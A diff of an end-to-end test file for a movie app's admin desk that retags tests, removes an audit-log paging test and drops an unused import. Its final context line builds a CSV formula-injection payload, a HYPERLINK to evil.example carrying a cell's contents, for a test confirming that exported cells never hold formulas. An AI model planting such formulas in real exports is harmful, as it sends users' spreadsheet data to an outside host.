@@ -4,7 +4,6 @@ import type { DeskMovie } from '../packages/contract/src/desk-movies.ts'
 import { expectAccessibleAtAnyWidth } from './accessibility.ts'
 import { type Admin, aLoggedInAdmin, askAsAdmin, deskScreen, openDesk } from './at-the-desk.ts'
 import { readCsv } from './csv.ts'
-import { askDatabase } from './database.ts'
 import { expect, here, navigate, test } from './house.ts'
 import { aLoggedInMember } from './members.ts'
 import { aSubscriber } from './premium.ts'
@@ -59,7 +58,7 @@ test.afterEach(async () => {
   for (const id of added) await takeAway(admin, id)
 })
 
-test('what is done at the desk stands on record: who, what, before and after, when and from where @phone', async ({
+test('what is done at the desk stands on record: who, what, before and after, when and from where', async ({
   page,
   isMobile,
 }) => {
@@ -116,7 +115,7 @@ test('what is done at the desk stands on record: who, what, before and after, wh
 
 // What is refused or does not come, and where an entry leads: apps/web/app/features/desk/audit-log/record-tab.test.tsx.
 
-test('filters by action and by who, kept in the address; what fits nothing says so', async ({ page }) => {
+test('filters by action and by who, kept in the address; what fits nothing says so @full', async ({ page }) => {
   test.slow()
   const [own, other] = [await aLoggedInAdmin(), await aLoggedInAdmin()]
   const mine = aTitle('Mine')
@@ -158,28 +157,6 @@ test('filters by action and by who, kept in the address; what fits nothing says 
   await expect(entry(page, 'Added a movie', mine)).toBeVisible()
 })
 
-test('Show older brings the rest, each once and none left out', async ({ page }) => {
-  test.slow()
-  const own = await aLoggedInAdmin()
-  const [me] = await askDatabase<{ id: string }>('select id from users where email = $1', [own.email])
-  const movie = await addMovie(own, aTitle('Often'))
-  for (let year = 1930; year < 1960; year++)
-    await askAsAdmin(own, 'PUT', `/api/movies/${movie._id}`, { ...draft(movie.title), year })
-  await openDesk(page, own, 'tab=record&by=me')
-  await expect(entries(page)).toHaveCount(25)
-  const older = panel(page).getByRole('button', { name: 'Show older' })
-
-  await older.click()
-  await expect(panel(page).getByText('There are no older entries.')).toBeVisible()
-  await expect(older).toHaveCount(0)
-  await expect(panel(page).getByText('There are no older entries.')).toBeFocused()
-  const [{ count } = { count: 0 }] = await askDatabase<{ count: number }>(
-    'select count(*)::integer as count from audit_log where actor_id = $1',
-    [me!.id],
-  )
-  await expect(entries(page)).toHaveCount(count)
-})
-
 /** Presses the button and opens what was saved. */
 async function exported(page: Page, name: RegExp) {
   const saved = page.waitForEvent('download')
@@ -197,7 +174,7 @@ async function exported(page: Page, name: RegExp) {
   return { head, rows }
 }
 
-test('movies, subscribers and the record are taken along as CSV, and no cell is a formula', async ({ page }) => {
+test('movies, subscribers and the record are taken along as CSV, and no cell is a formula @full', async ({ page }) => {
   test.slow()
   const own = await aLoggedInAdmin()
   const formula = `=HYPERLINK("https://evil.example/?x="&A1,"Click, ${process.pid}.${made++}")`
